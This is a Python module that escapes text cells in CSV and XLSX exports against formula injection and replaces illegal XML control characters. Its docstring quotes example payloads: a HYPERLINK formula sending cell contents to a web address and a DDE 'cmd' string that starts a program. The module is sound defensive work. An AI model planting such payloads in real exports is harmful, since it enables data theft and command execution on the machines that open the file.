"""What a text cell of an exported spreadsheet may hold: every CSV or XLSX the application writes goes through here.

    text_cell(value) -> str          the text as it must be written: harmless, and legal in an XLSX
    sheet_row(values) -> list        an XLSX row: texts through text_cell, numbers and dates left typed
    csv_row(values) -> list[str]     a CSV row: texts through text_cell, Decimal with a French decimal comma

Formula injection (OWASP, « CSV Injection »): a family or an intervenant named `=HYPERLINK("http://…?d="&A1, …)`,
`+cmd|' /C calc'!A0`, `-2+3` or `@SUM(1)` would be run as a formula by the spreadsheet that opens the export —
in a CSV as in an XLSX, where openpyxl stores any text starting with `=` as a live formula — and could send the
other cells (children's families, hours) to a web address or start a program. As OWASP recommends, a text that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading apostrophe: the spreadsheet
shows it as plain text, the reader still sees the name. Only texts are touched: numbers and dates are written as
typed values (never a formula), so that sums and sorting keep working.

Illegal characters: XML 1.0, in which an XLSX is written, forbids the control characters U+0000–U+0008, U+000B,
U+000C and U+000E–U+001F (tab, line feed and carriage return are allowed); openpyxl refuses them with an
IllegalCharacterError whose message is the whole text — a family's name, which then reached the log. They are
replaced by U+FFFD (�), in the CSV too so that both exports of the same month say the same thing: a name typed
with a stray control character stays readable and visibly marked, and the export never fails on it.
"""
from __future__ import annotations

import re
from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The same set as openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE (kept here: openpyxl is imported only for an XLSX).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
REPLACEMENT = "\ufffd"


def text_cell(value: str) -> str:
    cleaned = _ILLEGAL_XML.sub(REPLACEMENT, value)
    return f"'{cleaned}" if cleaned.startswith(FORMULA_STARTS) else cleaned


def sheet_row(values: Iterable[object]) -> list[object]:
    return [text_cell(v) if isinstance(v, str) else v for v in values]


def csv_row(values: Iterable[object]) -> list[str]:
    """Decimal is written with a comma (`1,50`), what French spreadsheets read as a number; None as an empty cell."""
    row: list[str] = []
    for v in values:
        if isinstance(v, str):
            row.append(text_cell(v))
        elif isinstance(v, Decimal):
            row.append(f"{v:f}".replace(".", ","))
        else:
            row.append("" if v is None else str(v))
    return row
